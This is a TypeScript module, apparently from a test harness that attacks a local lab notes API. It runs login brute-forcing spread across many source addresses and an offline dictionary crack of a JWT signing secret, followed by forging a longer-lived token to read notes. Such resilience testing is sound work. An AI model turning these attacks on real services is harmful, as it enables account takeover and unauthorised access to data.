import { createHmac, randomBytes } from 'node:crypto'
import { Pool } from 'undici'
import { now } from '../clock.ts'
import { Skipped } from '../errors.ts'
import { type AttackContext, type AttackRequest, type AttackRun, attemptAtRate, request } from './attack.ts'
import { forge } from './forgeries.ts'

/** Guesses the password of the user, from one address. */
export async function guessPasswords({ target, pool }: AttackContext) {
  return guessesFrom([pool], target.username)
}

/** The same from twenty addresses at once, as with twenty rented machines. */
export async function guessFromManyAddresses({ target: { url, username, addresses } }: AttackContext) {
  if (addresses.length === 0)
    throw new Skipped('Skipped: only on Linux has the loopback other addresses. The stack runs on Linux: make up')
  const pools = addresses.map((localAddress) => new Pool(url, { connections: 4, localAddress }))
  const attack = guessesFrom(pools, username)
  return (run: AttackRun) => attack(run).finally(() => Promise.all(pools.map((pool) => pool.destroy())))
}

function guessesFrom(pools: Pool[], username: string) {
  return (run: AttackRun) =>
    attemptAtRate(run, (number) => {
      const body = { username, password: `password${number}` }
      const pool = pools[number % pools.length] as Pool
      return request('a guess', pool, { method: 'POST', path: '/auth/login', body })
    })
}

const words =
  'secret password changeme jwt key admin test token default private dev production example koa notes api lab demo auth my super app user the hello world'.split(
    ' ',
  )
const separators = ['', '-', '_', '.']
const ends = ['', '1', '12', '123', '!', '2024', '2025', '2026']
/** The rest of the time belongs to the load: both share a process. */
const batchMs = 5

/**
 * The attacker has one token of the API and guesses offline the secret that signs it. With the secret the attacker signs a
 * token that lasts for a year, and reads notes with it.
 */
export async function guessableSecret({ token, pool }: AttackContext) {
  const search = searchFor(token)
  let forged: string | undefined
  return (run: AttackRun) =>
    attemptAtRate(run, () => {
      if (search.found === undefined) return offline(search)
      forged ??= withLongerLife(token, search.found)
      return request('a forged token', pool, { method: 'GET', path: '/data/notes?limit=1', token: forged })
    })
}

/** The same guesses at a token that was signed with 32 random bytes. */
export async function randomSecret({ token }: AttackContext) {
  const signed = token.slice(0, token.lastIndexOf('.'))
  const search = searchFor(`${signed}.${sign(signed, randomBytes(32).toString('base64url'))}`)
  return (run: AttackRun) => attemptAtRate(run, () => offline(search))
}

type Search = { batch: () => number; found?: string }

function offline(search: Search): AttackRequest {
  return { what: 'some guesses', send: async () => ({ status: 0, guesses: search.batch() }) }
}

/** A search through the dictionary, again and again. `batch` tries for a few milliseconds and returns the number of guesses. */
function searchFor(token: string): Search {
  const dot = token.lastIndexOf('.')
  const [signed, signature] = [token.slice(0, dot), token.slice(dot + 1)]
  const guesses = dictionary()
  const search: Search = {
    batch() {
      let count = 0
      for (const end = now() + batchMs; search.found === undefined && now() < end; count++) {
        const guess = guesses.next().value
        if (sign(signed, guess) === signature) search.found = guess
      }
      return count
    },
  }
  return search
}

function withLongerLife(token: string, secret: string): string {
  const claims = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()) as { exp: number }
  return forge({ ...claims, exp: claims.exp + 31_536_000 }, secret)
}

function sign(signed: string, secret: string): string {
  return createHmac('sha256', secret).update(signed).digest('base64url')
}

/** Secrets that people make up of two common words, repeated until they are as long as a secret has to be. Without end. */
export function* dictionary(): Generator<string, never> {
  for (let i = 0; ; i++) {
    const first = words[i % words.length] ?? ''
    for (const separator of separators)
      for (const second of words)
        for (const end of ends) {
          const stem = first + separator + second
          yield stem.repeat(Math.ceil(32 / stem.length)) + end
        }
  }
}
